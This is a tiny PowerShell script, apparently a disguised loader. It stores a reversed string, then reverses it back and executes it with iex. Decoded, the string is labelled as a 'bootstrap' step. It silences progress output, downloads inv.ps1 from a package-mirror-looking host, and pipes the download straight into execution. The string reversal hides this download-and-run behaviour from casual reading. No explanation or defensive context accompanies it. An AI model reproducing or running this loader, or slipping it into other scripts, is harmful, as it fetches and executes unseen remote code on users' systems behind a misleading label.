$axwzw='
xei | 1sp.vni/elpmaxe.rorrim-gkp.oper//:ptth gnisraPcisaBesU- rwi
''eunitnoCyltneliS'' = ecnereferPssergorP$
1v 3103 partstoob #'; iex (-join $axwzw[-1..-($axwzw.Length)])